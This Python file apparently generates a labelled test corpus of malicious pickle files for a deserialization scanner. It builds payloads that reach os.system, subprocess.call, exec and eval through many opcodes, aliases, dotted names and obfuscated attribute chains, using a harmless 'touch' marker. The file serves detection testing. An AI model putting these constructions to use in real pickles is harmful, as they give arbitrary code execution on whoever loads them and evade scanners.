"""Pickles that call what they must not, in every way that a pickle can call."""

from assemble import Call, Raw, Ref, assemble, body, text
from gadgets import FEW, GADGETS, TOUCH, CODE, calls, method, module
from sample import MARKER, Family

family = Family("malicious", "calls", "specification")


def add(name, data, why, effect, load="pickle", **more):
    family.add(f"{name}.pkl", data, "pickle", why, effect=effect, load=load, **more)


def lowest(gadget):
    """Dotted names need protocol 4, a framework's pickles are what they are."""
    return 4 if "Path." in str(gadget.call) or "ForkingPickler." in str(gadget.call) else 0


# Every gadget once by REDUCE, the protocols in turn.
for number, gadget in enumerate(GADGETS):
    protocol = max(number % 6, lowest(gadget))
    name = f"reduce/{gadget.name}-p{protocol}"
    add(name, assemble(gadget.call, protocol), f"calls {gadget.name} by REDUCE", gadget.effect, gadget.loader)

# The few by the other opcodes, in every protocol that has them.
for gadget in FEW:
    for way, protocols in {"inst": range(6), "obj": range(1, 6)}.items():
        for protocol in list(protocols)[len(gadget.name) % 2 :: 2]:
            call = Call(gadget.call.callee, gadget.call.args, way)
            name = f"{way}/{gadget.name}-p{protocol}"
            add(name, assemble(call, protocol), f"calls {gadget.name} by {way.upper()}", gadget.effect)

# `cls.__new__(cls, …)` runs no `__init__`: what iterates does the calling.
for protocol in range(2, 6):
    lazy = Call(Ref("builtins", "map"), (Ref("os", "system"), [TOUCH]), "newobj")
    for eager in ("tuple", "frozenset", "bytes"):
        call = Call(Ref("builtins", eager), (lazy,), "newobj")
        add(f"newobj/map-{eager}-p{protocol}", assemble(call, protocol), f"{eager} goes through a map of os.system, both by NEWOBJ", "process")
for protocol in (4, 5):
    partial = Call(Ref("functools", "partial"), (Ref("subprocess", "call"), ["touch", MARKER]), "newobj_ex", (("shell", False),))
    add(f"newobj_ex/partial-p{protocol}", assemble(Call(partial), protocol), "a partial of subprocess.call by NEWOBJ_EX, called", "process")
    lazy = Call(Ref("builtins", "map"), (Ref("os", "system"), [TOUCH]), "newobj_ex")
    call = Call(Ref("builtins", "tuple"), (lazy,), "newobj_ex")
    add(f"newobj_ex/map-tuple-p{protocol}", assemble(call, protocol), "tuple goes through a map of os.system, both by NEWOBJ_EX", "process")

NAMESPACE = Call(Ref("argparse", "Namespace"))


def on_instance(attribute, value, tail, protocol, reference=Ref("os", "system")):
    """An object gets a callable as an attribute by BUILD, and then opcodes that call the attribute."""
    state = body({attribute: reference}, protocol)
    return assemble(Raw(body(NAMESPACE, protocol) + state + b"b" + tail), protocol)


# BUILD calls `__setstate__`, APPEND(S) `append` or `extend`, ADDITEMS `add`: also where they were just put there.
for protocol in range(6):
    touch = text(TOUCH, protocol)
    add(f"build/setstate-p{protocol}", on_instance("__setstate__", None, touch + b"b", protocol), "BUILD puts os.system in place of __setstate__, and a second BUILD calls it", "process")
    add(f"append/append-p{protocol}", on_instance("append", None, touch + b"a", protocol), "APPEND calls os.system, put in place of append", "process")
    if protocol >= 1:
        add(f"append/appends-p{protocol}", on_instance("append", None, b"(" + touch + b"e", protocol), "APPENDS calls os.system, put in place of append", "process")
    if protocol >= 4:
        add(f"additems/add-p{protocol}", on_instance("add", None, b"(" + touch + b"\x90", protocol), "ADDITEMS calls os.system, put in place of add", "process")
    extend = on_instance("extend", None, b"(" + text("touch", protocol) + text(MARKER, protocol) + b"e", protocol, Ref("subprocess", "call"))
    if protocol >= 1:
        add(f"append/extend-p{protocol}", extend, "APPENDS calls subprocess.call, put in place of extend", "process")

# A class gets a callable as an attribute: BUILD sets what the second half of a state names by setattr.
for protocol in (2, 3, 4, 5):
    klass = body(Ref("argparse", "Namespace"), protocol)
    state = body((None, {"__setitem__": Ref("builtins", "exec")}), protocol)
    tail = text(CODE, protocol) + body({}, protocol) + b"s"
    data = assemble(Raw(klass + state + b"b0" + body(NAMESPACE, protocol) + tail), protocol)
    add(f"setitem/class-exec-p{protocol}", data, "BUILD makes exec the __setitem__ of a class, and SETITEM on an instance calls it", "code")
    tail = b"(" + text(CODE, protocol) + body({}, protocol) + b"u"
    data = assemble(Raw(klass + state + b"b0" + body(NAMESPACE, protocol) + tail), protocol)
    add(f"setitem/class-exec-items-p{protocol}", data, "BUILD makes exec the __setitem__ of a class, and SETITEMS on an instance calls it", "code")
    data = assemble(Raw(klass + body((None, {"__setstate__": Ref("os", "system")}), protocol) + b"b0" + body(NAMESPACE, protocol) + text(TOUCH, protocol) + b"b"), protocol)
    add(f"build/class-setstate-p{protocol}", data, "BUILD makes os.system the __setstate__ of a class, and BUILD on an instance calls it", "process")

# Objects of the standard library whose own methods do it.
for protocol in (0, 2, 4):
    shelf = calls("shelve:open", MARKER)
    data = assemble(Raw(body(shelf, protocol) + text("a", protocol) + body(1, protocol) + b"s"), protocol)
    add(f"setitem/shelf-p{protocol}", data, "SETITEM on a shelf writes its file", "file")
    handler = calls("logging:FileHandler", MARKER)
    add(f"build/file-handler-p{protocol}", assemble(Raw(body(handler, protocol) + body({"level": 10}, protocol) + b"b"), protocol), "BUILD gives a state to a handler that has opened its file", "file")
    partial = body(calls("functools:partial", Ref("builtins", "len")), protocol)
    state = body((Ref("os", "system"), (TOUCH,), {}, None), protocol)
    data = assemble(Raw(partial + state + b"b)R" if protocol else partial + state + b"b(tR"), protocol)
    add(f"build/partial-state-p{protocol}", data, "BUILD makes a partial of len one of os.system, then it is called", "process")

# Dotted names: STACK_GLOBAL walks attributes from protocol 4 on.
DOTTED = {
    "pathlib": "os.system", "posixpath": "os.system", "shutil": "os.system", "glob": "os.path.os.system",
    "random": "_os.system", "logging": "os.system", "tempfile": "_os.system", "zipfile": "os.system",
    "subprocess": "os.system", "uuid": "os.system", "gzip": "os.system", "fileinput": "os.system",
    "inspect": "os.system", "http.server": "os.system",
}
for number, (home, name) in enumerate(DOTTED.items()):
    data = assemble(calls(f"{home}:{name}", TOUCH), 4 + number % 2)
    add(f"dotted/{home}-{name}", data, f"reaches os.system as {home}.{name}, by a dotted name", "process")
for home, name in {"collections": "_sys.modules.__getitem__", "fnmatch": "os.sys.modules.get", "typing": "sys.modules.get", "re": "enum.sys.modules.get"}.items():
    data = assemble(Call(calls("builtins:getattr", calls(f"{home}:{name}", "os"), "system"), (TOUCH,)), 4)
    add(f"dotted/{home}-{name}", data, f"takes the module os out of {home}.{name}", "process")

# The same function under another module's name, and a module as an attribute of another.
for number, alias in enumerate(["posix:system", "random:_os", "shutil:os", "zipfile:os", "tempfile:_os", "ctypes:_os", "logging:os", "uuid:os", "bdb:os", "pdb:os", "cgitb:os", "webbrowser:os"]):
    home, _, name = alias.partition(":")
    call = calls(alias, TOUCH) if name == "system" else Call(calls("builtins:getattr", Ref(home, name), "system"), (TOUCH,))
    add(f"alias/{home}-{name}-p{number % 5}", assemble(call, number % 5), f"reaches os.system by {home}.{name}", "process")
for number, (alias, call) in enumerate({
    "builtin-eval": calls("__builtin__:eval", CODE),
    "commands-getoutput": calls("commands:getoutput", TOUCH),
    "cpickle-loads": calls("cPickle:loads", assemble(calls("os:system", TOUCH), 2)),
    "urllib-urlretrieve": calls("urllib:urlretrieve", "data:,reached", MARKER),
}.items()):
    add(f"alias/{alias}", assemble(call, number % 3), f"names it as Python 2 did: {call.callee.module}.{call.callee.name}", "code")

# Chains of attributes.
OS = module("os")
CHAINS = {
    "getattr": Call(calls("builtins:getattr", OS, "system"), (TOUCH,)),
    "getattr-default": Call(calls("builtins:getattr", OS, "system", None), (TOUCH,)),
    "getattribute": Call(Call(Ref("builtins", "object.__getattribute__"), (OS, "system")), (TOUCH,)),
    "vars": Call(calls("operator:getitem", calls("builtins:vars", OS), "system"), (TOUCH,)),
    "dict-get": Call(method(calls("builtins:vars", OS), "get", "system"), (TOUCH,)),
    "modules": Call(calls("builtins:getattr", calls("operator:getitem", Ref("sys", "modules"), "os"), "system"), (TOUCH,)),
    "globals": Call(calls("builtins:getattr", calls("operator:getitem", calls("builtins:getattr", Ref("shutil", "copy"), "__globals__"), "os"), "system"), (TOUCH,)),
    "getattr-static": Call(calls("inspect:getattr_static", OS, "system"), (TOUCH,)),
    "reduce-getattr": Call(calls("functools:reduce", Ref("builtins", "getattr"), [OS, "path", "os", "system"]), (TOUCH,)),
    "attrgetter-dotted": Call(Call(calls("operator:attrgetter", "path.os.system"), (OS,)), (TOUCH,)),
    "itemgetter": Call(Call(calls("operator:itemgetter", "system"), (calls("builtins:vars", OS),)), (TOUCH,)),
    "methodcaller": Call(calls("operator:methodcaller", "system", TOUCH), (OS,)),
    "builtins-dict": Call(calls("operator:getitem", Ref("builtins", "__dict__"), "exec"), (CODE,)),
    "import-getattr": Call(calls("builtins:getattr", calls("builtins:__import__", "os"), "system"), (TOUCH,)),
    "joined-name": Call(calls("builtins:getattr", OS, method("", "join", ["sys", "tem"])), (TOUCH,)),
    "reversed-name": Call(calls("builtins:getattr", OS, method("", "join", calls("builtins:reversed", "metsys"))), (TOUCH,)),
    "resolve-name": Call(calls("pkgutil:resolve_name", "os:system"), (TOUCH,)),
    "locate": Call(calls("pydoc:locate", "os.system"), (TOUCH,)),
    "subclass-globals": Call(Call(Ref("os", "_wrap_close.__init__.__globals__.__getitem__"), ("system",)), (TOUCH,)),
    "chainmap": Call(calls("operator:getitem", calls("collections:ChainMap", calls("builtins:vars", OS)), "system"), (TOUCH,)),
}
for number, (name, call) in enumerate(CHAINS.items()):
    protocol = 4 + number % 2 if name in ("getattribute", "subclass-globals") else number % 6
    add(f"chain/{name}-p{protocol}", assemble(call, protocol), f"reaches its callable through {name}", "process")

# Extension codes: a registry within the interpreter, which a pickle may fill for itself.
for opcode, code in {b"\x82": 240, b"\x83": 0x1234, b"\x84": 0x123456}.items():
    number = code.to_bytes({b"\x82": 1, b"\x83": 2, b"\x84": 4}[opcode], "little")
    register = body(calls("copyreg:add_extension", "os", "system", code), 2)
    data = assemble(Raw(register + b"0" + opcode + number + body((TOUCH,), 2) + b"R"), 2)
    add(f"ext/ext{len(number)}", data, "registers an extension code for os.system and calls by it", "process")
    data = assemble(Raw(opcode + number + body((TOUCH,), 2) + b"R"), 2)
    family.add(f"ext/ext{len(number)}-unregistered.pkl", data, "pickle", "calls by an extension code that the application may have registered", effect="code", unproven="what the code means is up to the application")

# Persistent ids: what stands in for an object, computed by a call.
for protocol in range(1, 6):
    inner = body(("storage", calls("os:system", TOUCH), "0", "cpu", 1), protocol)
    add(f"persistent/binpersid-p{protocol}", assemble(Raw(inner + b"Q"), protocol), "a persistent id that is computed by os.system", "process")
family.add("persistent/persid-text.pkl", b"Pos.system\n.", "pickle", "a persistent id of which nothing is known", effect="code", unproven="what the id means is up to the application")

family.finish()
